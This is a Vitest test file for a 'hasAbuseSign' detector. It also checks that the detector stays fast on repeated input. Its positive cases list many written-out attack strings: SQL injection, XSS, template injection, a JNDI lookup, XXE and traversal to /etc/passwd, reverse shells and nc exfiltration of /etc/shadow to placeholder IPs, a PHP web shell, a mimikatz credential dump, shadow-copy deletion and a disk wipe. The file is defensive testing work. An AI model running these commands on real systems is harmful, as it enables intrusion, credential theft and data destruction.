import { describe, expect, it } from 'vitest'
import { growthOf, LINEAR_GROWTH } from '../../../../src-shared/__fixtures__/growth.ts'
import { hasAbuseSign } from './abuse-signs.ts'

describe('hasAbuseSign', () => {
  it.each([
    "' OR 1=1 --",
    "1') UNION ALL SELECT NULL,NULL#",
    '1; DROP TABLE users',
    '-1 ORDER BY 10--',
    '<img src=x onerror=alert(1)>',
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    `\${jndi:ldap://198.51.100.23:1389/a}`,
    '%27%20or%201%3D1',
    '<!--#echo var="DATE_LOCAL" -->',
    'x; /usr/bin/id',
    'text/html; /usr/bin/id',
    'text/html; /bin/sh -c id %s',
    'text/html; /bin/bash %s',
    '<script>alert(1)</script>',
    '<script><script>alert(1)</script></script>',
    '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
    '/..%2f..%2f..%2fetc/passwd',
    '../../../../windows/win.ini',
    'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1',
    `ruby -rsocket -e'spawn("sh",[:in,:out,:err]=>TCPSocket.new("198.51.100.9",443))'`,
    'nc -e /bin/sh 198.51.100.9 4444',
    'curl -s http://198.51.100.44/i.sh -o /tmp/i',
    'echo aGk= | base64 -d | bash',
    '<?php eval($_POST["x"]); ?>',
    'certutil -urlcache -split -f http://a.example/x.exe',
    'mimikatz.exe sekurlsa::logonpasswords',
    'tar c /etc/shadow | nc 198.51.100.9 9000',
    'vssadmin delete shadows /all /quiet',
    'Set-MpPreference -DisableRealtimeMonitoring $true',
    'dd if=/dev/zero of=/dev/sda bs=1M',
    'VirtualAlloc(0, size, 0x3000, 0x40)',
    'Sub Document_Open()\n  CreateObject("WScript.Shell").Run "x"\nEnd Sub',
  ])('is true of an attack on a machine: %s', (passage) => {
    expect(hasAbuseSign(passage)).toBe(true)
  })

  it.each([
    '',
    'text/html; /usr/bin/openfile %s ;',
    'image/*; /usr/bin/feh -F "%s"',
    '<script>\n  <command location="inx">next_layer.py</command>\n</script>',
    'rm -rf build/ dist/ && npm ci',
    'curl -fsSL https://get.example.org/install.sh | sh',
    'wget http://192.168.1.4:8000/bootstrap.sh',
    "timeout 1 bash -c '</dev/tcp/localhost/5432' && echo up",
    'tar cz /srv | nc 10.0.0.9 9000',
    'echo "$CERT" | base64 -d > server.pem',
    '[ -r "/etc/default/$NAME" ] && . "/etc/default/$NAME"',
    'cmp /etc/group /usr/share/base-passwd/group.master 2>/dev/null',
    "SELECT name FROM users WHERE id = $1 AND city = 'Lyon'",
    'certutil -hashfile setup.exe SHA256',
    'regsvr32 /s C:\\Windows\\System32\\msxml3.dll',
    'vssadmin delete shadows /for=D: /oldest',
    'Start-Process notepad.exe -WindowStyle Hidden',
    'powershell -NoProfile -EncodedCommand UABvAHcAZQByAFMAaABlAGwAbABQAG8AdwBlAHIAUwBoAGUAbABs',
  ])('is false of everyday work: %s', (passage) => {
    expect(hasAbuseSign(passage)).toBe(false)
  })

  it.each(['<script><a>', 'a/b; /bin/', 'socket ', '{{', 'tcpclient(', "' or ", 'curl '])(
    'takes time that grows with the passage alone: %s',
    async (part) => {
      const passage = (units: number) => part.repeat(units / part.length)
      expect(await growthOf(passage, hasAbuseSign, 20_000)).toBeLessThan(LINEAR_GROWTH)
    },
  )
})
